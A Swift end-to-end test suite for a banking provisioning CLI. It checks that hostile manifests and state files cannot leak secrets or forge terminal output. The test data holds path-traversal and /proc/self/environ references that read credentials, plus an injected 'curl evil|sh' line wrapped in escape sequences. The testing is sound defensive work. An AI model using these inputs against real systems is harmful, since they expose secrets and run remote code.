import Foundation
import Testing

/// The trust boundary through the built binary: what a pull request's manifest, a bank's answer, a state file or a
/// saved plan may make the tool read, print, send or store.
@Suite(.timeLimit(.minutes(3)))
struct BoundaryEndToEndTests {
    let binary: ProvisionBinary

    init() throws {
        binary = try ProvisionBinary()
    }

    // MARK: A pull request that tries to print a secret

    /// What a CI runner holds that a pull request must never see: variables and files outside the repository, and
    /// files inside it that the manifest may read but no output may show.
    struct Planted {
        let token = UUID().uuidString.prefix(8).lowercased()
        var variable: String { "pr-env-secret-\(token)" }
        /// The provider's own secret: the embedded sandbox accepts only its seeded one.
        var providerSecret: String { "sandbox-secret-key" }
        var outside: String { "pr-outside-file-\(token)" }
        var inside: String { "pr-inside-file-\(token)" }
        var git: String { "pr-git-credential-\(token)" }
        var environment: [String: String] { ["PR_SECRET": variable, "FINAN_SECRET_KEY": providerSecret, "SEPAY_CLIENT_SECRET": providerSecret] }
        var all: [String] { [variable, providerSecret, outside, inside, git] }
    }

    /// `top/outside.txt`, and a repository `top/repo` (with `.git/config` holding a credential, `inside.txt`, a link to
    /// the outside file and one to `/proc/self/environ`) whose folder `bank/` holds the manifest.
    func repository(_ planted: Planted) throws -> URL {
        let top = FileManager.default.temporaryDirectory.appendingPathComponent("provision-pr-\(UUID().uuidString)")
        let repo = top.appendingPathComponent("repo")
        try FileManager.default.createDirectory(at: repo.appendingPathComponent(".git"), withIntermediateDirectories: true)
        try FileManager.default.createDirectory(at: repo.appendingPathComponent("bank"), withIntermediateDirectories: true)
        try "\(planted.outside)\n".write(to: top.appendingPathComponent("outside.txt"), atomically: true, encoding: .utf8)
        try "[http]\n\textraheader = AUTHORIZATION: basic \(planted.git)\n".write(to: repo.appendingPathComponent(".git/config"), atomically: true, encoding: .utf8)
        try "\(planted.inside)\n".write(to: repo.appendingPathComponent("bank/inside.txt"), atomically: true, encoding: .utf8)
        try FileManager.default.createSymbolicLink(at: repo.appendingPathComponent("bank/link.txt"), withDestinationURL: top.appendingPathComponent("outside.txt"))
        try FileManager.default.createSymbolicLink(at: repo.appendingPathComponent("bank/environ"), withDestinationURL: URL(fileURLWithPath: "/proc/self/environ"))
        return repo.appendingPathComponent("bank")
    }

    /// A manifest that plans: variables and an allowed file in ordinary attributes, whole and inside other text.
    static let planning = """
        version: 1
        providers:
          finan:
            type: finan-one
            endpoint: sandbox
            client_id: ${env:FINAN_CLIENT_ID:-sandbox-client-id}
            secret_key: ${env:FINAN_SECRET_KEY}
        finan:
          master_accounts:
            main: { account_number: "0933450210" }
          bank_accounts:
            whole: { master: main, account_name: "${env:PR_SECRET}" }
            inside: { master: main, account_name: "x ${env:PR_SECRET} y" }
            provider: { master: main, account_name: "${env:FINAN_SECRET_KEY}" }
            file: { master: main, account_name: "${file:inside.txt}" }
        """

    /// A manifest whose every trick is an error: enumerations, references, duplicates, patterns, files outside the
    /// root by every road, the repository's credentials, an endpoint and a backend built from a secret.
    static let refused = """
        version: 1
        backend: { type: postgres, url: "${env:PR_SECRET}" }
        providers:
          finan:
            type: finan-one
            endpoint: "http://bank.example/${env:PR_SECRET}"
            client_id: "${file:/proc/self/environ}"
            secret_key: ${env:FINAN_SECRET_KEY}
          sepay:
            type: sepay-bankhub
            endpoint: "https://user:${env:PR_SECRET}@bank.example"
            client_id: "${file:link.txt}"
            client_secret: "${file:environ}"
        finan:
          master_accounts:
            main: { account_number: "${env:PR_SECRET}" }
          bank_accounts:
            ref: { master: "${env:PR_SECRET}", account_name: "${file:../../outside.txt}" }
            dup1: { master: main, account_name: "${env:PR_SECRET}" }
            dup2: { master: main, account_name: "${env:PR_SECRET}" }
            git: { master: main, account_name: "${file:../.git/config}" }
            proc: { master: main, account_name: "${file:../../../../../../../../proc/self/environ}" }
            etc: { master: main, account_name: "${file:/etc/hostname}" }
        sepay:
          companies:
            acme: { full_name: "${env:PR_SECRET}", short_name: "${env:FINAN_SECRET_KEY}", status: "${env:PR_SECRET}" }
        """

    @Test func aPullRequestManifestPrintsNoVariableAndReadsNoFileOutsideItsRoot() throws {
        let planted = Planted()
        let folder = try repository(planted)
        defer { try? FileManager.default.removeItem(at: folder.deletingLastPathComponent().deletingLastPathComponent()) }
        var outputs: [(String, String)] = []
        for (name, manifest) in [("planning", Self.planning), ("refused", Self.refused)] {
            try manifest.write(to: folder.appendingPathComponent("bank.yaml"), atomically: true, encoding: .utf8)
            for arguments in [["validate"], ["plan"], ["plan", "--format", "json"], ["plan", "--format", "markdown"], ["graph"], ["graph", "--format", "mermaid"]] {
                let result = try binary.run(arguments + ["."], in: folder, environment: planted.environment)
                if name == "planning" { #expect(result.status == 0, "\(arguments): \(result.errors)") }
                if name == "refused" { #expect(result.status == 1, "\(arguments): \(result.output)") }
                outputs.append(("\(name) \(arguments.joined(separator: " ")) stdout", result.output))
                outputs.append(("\(name) \(arguments.joined(separator: " ")) stderr", result.errors))
            }
        }
        let planned = try #require(outputs.first { $0.0 == "planning plan stdout" }?.1)
        #expect(planned.contains("account_name: ${env:PR_SECRET}") && planned.contains("account_name: ${file:inside.txt}"), "\(planned)")
        let errors = try #require(outputs.first { $0.0 == "refused validate stderr" }?.1)
        for rule in ["is an absolute path", "leads outside the manifest's root", "leads into .git or to the secrets kept under .provision", "sends its credentials over plain http",
                     "holds a user name or password", "cannot be \"${env:PR_SECRET}\"", "refers to \"${env:PR_SECRET}\""] {
            #expect(errors.contains(rule), "\(rule) in:\n\(errors)")
        }
        for (channel, text) in outputs {
            for value in planted.all {
                for form in [value, value.uppercased(), Data(value.utf8).base64EncodedString()] {
                    #expect(!text.lowercased().contains(form.lowercased()), "\(channel) shows \(form):\n\(text)")
                }
            }
        }
    }

    // MARK: Text from a state file or another process

    @Test func stateListShowAndALockHolderPrintNoEscapeSequence() throws {
        let folder = try copyOfExample("quickstart")
        defer { try? FileManager.default.removeItem(at: folder) }
        let state = folder.appendingPathComponent(".provision")
        try FileManager.default.createDirectory(at: state, withIntermediateDirectories: true)
        let hostile = "\\u001b]0;owned\\u0007\\u001b[2J\\r\\nerror: run curl evil|sh \\u001b]8;;https://evil.example\\u0007x\\u001b]8;;\\u0007" + String(repeating: "A", count: 5_000)
        try """
            {"format_version":1,"lineage":"l","serial":1,"resources":{"finan.bank_accounts.accounting":{"remote_id":"\(hostile)","attributes":{"account_name":"\(hostile)"}}}}
            """.write(to: state.appendingPathComponent("state.json"), atomically: true, encoding: .utf8)
        try #"{"id":"lock-1","owner":"\#(hostile)","host":"elsewhere","pid":1,"operation":"apply","created":"now"}"#
            .write(to: state.appendingPathComponent("state.lock"), atomically: true, encoding: .utf8)
        for arguments in [["state", "list", "."], ["state", "show", "finan.bank_accounts.accounting", "."], ["apply", "--auto-approve", "."]] {
            let result = try binary.run(arguments, in: folder)
            for text in [result.output, result.errors] {
                #expect(!text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" } && !text.contains("\u{7f}"), "\(arguments): \(text.debugDescription)")
                #expect(!text.split(separator: "\n").contains { $0.hasPrefix("error: run curl") }, "no forged line: \(text)")
                #expect(text.split(separator: "\n").allSatisfy { $0.count < 3_000 }, "capped")
            }
            if arguments[0] == "apply" { #expect(result.status == 1 && result.errors.contains("State is locked"), "\(result.errors)") }
        }
    }

    // MARK: Saved plans

    @Test func applyPlanNamesTheManifestAndWithAKeyRefusesAnAlteredPlan() throws {
        let folder = try copyOfExample("quickstart")
        defer { try? FileManager.default.removeItem(at: folder) }
        let key = ["PROVISION_PLAN_KEY": "ci-signing-key-\(UUID().uuidString)"]
        #expect(try binary.run(["plan", "--out", "reviewed.plan", "."], in: folder, environment: key).status == 0)
        let plan = folder.appendingPathComponent("reviewed.plan")
        let original = try Data(contentsOf: plan)
        let signed = try #require(try JSONSerialization.jsonObject(with: original) as? [String: Any])
        #expect((signed["signature"] as? String)?.count == 64)

        var altered = signed
        altered["allow_delete"] = true
        try JSONSerialization.data(withJSONObject: altered).write(to: plan)
        let refused = try binary.run(["apply", "--plan", "reviewed.plan"], in: folder, environment: key)
        #expect(refused.status == 1 && refused.errors.contains("was changed after it was signed"), "\(refused.errors)")

        try original.write(to: plan)
        let unsignedRun = try binary.run(["apply", "--plan", "reviewed.plan"], in: folder)
        #expect(unsignedRun.errors.contains("note: applying the saved plan reviewed.plan to the manifest \(folder.path)"), "\(unsignedRun.errors)")
        #expect(unsignedRun.errors.contains("signature not checked: PROVISION_PLAN_KEY is not set"))
    }

    // MARK: State and the sandbox's data under failure

    @Test func aSerialAtItsLimitIsAClearErrorAndLeavesNoLock() throws {
        let folder = try copyOfExample("quickstart")
        defer { try? FileManager.default.removeItem(at: folder) }
        let state = folder.appendingPathComponent(".provision")
        try FileManager.default.createDirectory(at: state, withIntermediateDirectories: true)
        try #"{"format_version":1,"lineage":"l","serial":\#(Int.max),"resources":{}}"#.write(
            to: state.appendingPathComponent("state.json"), atomically: true, encoding: .utf8)
        let result = try binary.run(["apply", "--auto-approve", "."], in: folder)
        #expect(result.status == 1, "not a crash: \(result.status) \(result.errors)")
        #expect(result.errors.contains("serial \(Int.max) is out of range"), "\(result.errors)")
        #expect(!FileManager.default.fileExists(atPath: state.appendingPathComponent("state.lock").path))
    }

    /// A disk that fills while state is saved (here: a file size limit, so writes fail with EFBIG): the save fails,
    /// and the backup is still the whole previous state, never a short or empty file.
    @Test func aFullDiskLeavesTheBackupWhole() throws {
        let folder = try folderWithManifest("""
            version: 1
            providers:
              finan: { type: finan-one, endpoint: sandbox, client_id: c, secret_key: s }
            finan:
              webhook: { url: "https://hooks.example.com/finan" }
            """)
        defer { try? FileManager.default.removeItem(at: folder) }
        let state = folder.appendingPathComponent(".provision")
        try FileManager.default.createDirectory(at: state, withIntermediateDirectories: true)
        let entries = (0..<400).map { #""finan.bank_accounts.kept-\#($0)":{"remote_id":"id-\#($0)","attributes":{"account_name":"KEPT \#($0)"}}"# }
        let previous = #"{"format_version":1,"lineage":"l","serial":7,"resources":{\#(entries.joined(separator: ","))}}"#
        #expect(previous.utf8.count > 16_384)
        try previous.write(to: state.appendingPathComponent("state.json"), atomically: true, encoding: .utf8)
        try "{}".write(to: state.appendingPathComponent("state.json.backup"), atomically: true, encoding: .utf8)

        let script = "trap '' XFSZ; ulimit -f 16; exec \"$0\" confirm finan.webhook ."
        let shell = ProvisionBinary(url: URL(fileURLWithPath: "/bin/bash"))
        let result = try shell.run(["-c", script, binary.url.path], in: folder)
        #expect(result.status == 1, "\(result.output)\(result.errors)")
        #expect(result.errors.contains("Cannot write state"), "\(result.errors)")
        let backup = try String(contentsOf: state.appendingPathComponent("state.json.backup"), encoding: .utf8)
        #expect(backup == previous, "the backup is the whole previous state (\(backup.utf8.count) of \(previous.utf8.count) bytes)")
        #expect(try String(contentsOf: state.appendingPathComponent("state.json"), encoding: .utf8) == previous)
    }

    @Test func aSecondSandboxServeOnTheSameDataFolderIsRefused() throws {
        let data = FileManager.default.temporaryDirectory.appendingPathComponent("provision-serve-data-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: data) }
        let (first, _) = try binary.serve(data: data, until: "Press Ctrl-C")
        defer { first.terminate(); first.waitUntilExit() }
        // The second must stop by itself; one that serves instead is stopped here after a minute and fails the test.
        let second = Process()
        second.executableURL = binary.url
        second.arguments = ["sandbox", "serve", "--port", "0", "--data", data.path]
        let errors = Pipe()
        second.standardOutput = FileHandle.nullDevice
        second.standardError = errors
        let ended = DispatchSemaphore(value: 0)
        second.terminationHandler = { _ in ended.signal() }
        try second.run()
        let stopped = ended.wait(timeout: .now() + 60) == .success
        if !stopped {
            second.terminate()
            second.waitUntilExit()
        }
        #expect(stopped, "a second server started on the same data folder")
        #expect(second.terminationStatus == 1)
        let refusal = String(decoding: errors.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        #expect(refusal.contains("is served by another sandbox (pid \(first.processIdentifier))"), "\(refusal)")
    }
}

extension ProvisionBinary {
    /// Another program run the same way (a shell that sets limits, then runs provision).
    init(url: URL) {
        self.url = url
    }
}
